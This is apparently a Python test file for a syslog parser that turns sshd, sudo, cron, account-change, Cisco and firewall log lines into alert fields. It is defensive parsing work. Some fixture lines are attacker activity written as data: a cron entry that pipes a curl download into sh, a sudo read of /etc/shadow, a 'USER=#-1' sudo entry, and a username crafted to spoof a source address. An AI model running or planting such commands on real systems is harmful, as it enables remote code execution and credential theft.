"""What well-known programs write to syslog becomes fields that alerts can be grouped by."""

from datetime import UTC, datetime

import pytest

from collectors.formats import parse
from collectors.formats.messages import message_fields


@pytest.mark.parametrize(
    ("message", "fields"),
    [
        (
            "Failed password for invalid user bob from 192.0.2.1 port 4222 ssh2",
            {
                "outcome": "failure",
                "auth_method": "password",
                "user": "bob",
                "invalid_user": "invalid",
                "src_ip": "192.0.2.1",
                "src_port": "4222",
            },
        ),
        (
            "Accepted publickey for alice from 2001:db8::7 port 50000 ssh2: ED25519 SHA256:abc",
            {
                "outcome": "success",
                "auth_method": "publickey",
                "user": "alice",
                "src_ip": "2001:db8::7",
                "src_port": "50000",
            },
        ),
        (
            "Invalid user  from 192.0.2.1 port 4",
            {
                "outcome": "failure",
                "invalid_user": "invalid",
                "src_ip": "192.0.2.1",
                "src_port": "4",
            },
        ),
        (
            "Connection closed by authenticating user root 192.0.2.1 port 4 [preauth]",
            {"user": "root", "src_ip": "192.0.2.1", "src_port": "4"},
        ),
        ("Connection closed by 192.0.2.1 [preauth]", {"src_ip": "192.0.2.1"}),
        (
            "Disconnected from invalid user x y 192.0.2.1 port 4 [preauth]",
            {"invalid_user": "invalid", "user": "x y", "src_ip": "192.0.2.1", "src_port": "4"},
        ),
        (
            "Disconnected from user bob 192.0.2.1 port 4",
            {"user": "bob", "src_ip": "192.0.2.1", "src_port": "4"},
        ),
        (
            (
                "error: maximum authentication attempts exceeded for root from 192.0.2.1 port 4"
                " ssh2 [preauth]"
            ),
            {"outcome": "failure", "user": "root", "src_ip": "192.0.2.1", "src_port": "4"},
        ),
        (
            (
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser="
                " rhost=192.0.2.1  user=root"
            ),
            {
                "pam_module": "pam_unix",
                "pam_service": "sshd",
                "pam_type": "auth",
                "outcome": "failure",
                "src_ip": "192.0.2.1",
                "user": "root",
            },
        ),
        (
            "message repeated 2 times: [ Failed none for root from 192.0.2.1 port 4 ssh2]",
            {
                "repeated": "2",
                "outcome": "failure",
                "auth_method": "none",
                "user": "root",
                "src_ip": "192.0.2.1",
                "src_port": "4",
            },
        ),
        ("Server listening on 0.0.0.0 port 22.", {}),
    ],
)
def test_sshd_says_who_knocked_and_from_where(message: str, fields: dict[str, str]) -> None:
    assert message_fields("sshd", message) == fields
    assert message_fields("/usr/lib/openssh/sshd-session", message) == fields


def test_a_name_that_looks_like_an_address_does_not_move_the_blame() -> None:
    name = "root from 203.0.113.9 port 1 ssh2"

    fields = message_fields(
        "sshd", f"Failed password for invalid user {name} from 192.0.2.1 port 4 ssh2"
    )

    assert fields["src_ip"] == "192.0.2.1"
    assert fields["user"] == name


@pytest.mark.parametrize(
    ("program", "message", "fields"),
    [
        (
            "sudo",
            "  bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/shadow",
            {
                "user": "bob",
                "TTY": "pts/0",
                "PWD": "/home/bob",
                "USER": "root",
                "COMMAND": "/bin/cat /etc/shadow",
            },
        ),
        (
            "sudo",
            "bob : user NOT in sudoers ; TTY=tty1 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh",
            {
                "user": "bob",
                "reason": "user NOT in sudoers",
                "TTY": "tty1",
                "PWD": "/",
                "USER": "#-1",
                "COMMAND": "/bin/sh",
            },
        ),
        (
            "CRON",
            "(root) CMD (curl -s http://192.0.2.1/u | sh)",
            {"user": "root", "command": "curl -s http://192.0.2.1/u | sh"},
        ),
        (
            "crontab",
            "(bob) REPLACE (bob)",
            {"user": "bob", "cron_action": "REPLACE"},
        ),
        (
            "useradd",
            "new user: name=eve, UID=1004, GID=1004, home=/home/eve, shell=/bin/bash",
            {"user": "eve", "account_action": "added"},
        ),
        (
            "usermod",
            "add 'eve' to group 'sudo'",
            {"user": "eve", "group": "sudo", "account_action": "group added"},
        ),
        (
            "su",
            "pam_unix(su:session): session opened for user root(uid=0) by bob(uid=1000)",
            {
                "pam_module": "pam_unix",
                "pam_service": "su",
                "pam_type": "session",
                "session": "opened",
                "user": "root",
                "by_user": "bob",
            },
        ),
        (
            "",
            "6705: Feb 17 13:40:03.673: %SYS-5-CONFIG_I: Configured from console",
            {"cisco_facility": "SYS", "cisco_severity": "5", "cisco_mnemonic": "CONFIG_I"},
        ),
        ("frobnicator", "anything at all", {}),
    ],
)
def test_programs_speak_in_fields(program: str, message: str, fields: dict[str, str]) -> None:
    assert message_fields(program, message) == fields


@pytest.mark.parametrize(
    ("prefix", "action"),
    [("[UFW BLOCK] ", "deny"), ("[ 12.5] ACCEPT-in ", "allow"), ("", None), ("[seen] ", None)],
)
def test_linux_firewall_lines_get_the_names_of_firewall_rules(
    prefix: str, action: str | None
) -> None:
    packet = "IN=eth0 OUT= MAC=00:01 SRC=192.0.2.1 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=4 DPT=22"
    line = f"Jan  1 00:00:00 lx kernel: {prefix}{packet}"

    fields = parse(line.encode(), received=datetime(2026, 1, 1, tzinfo=UTC)).fields

    assert fields.get("action") == action
    assert (fields["src_ip"], fields["dst_ip"]) == ("192.0.2.1", "10.0.0.1")
    assert (fields["src_port"], fields["dst_port"], fields["protocol"]) == ("4", "22", "TCP")
    assert fields["IN"] == "eth0"
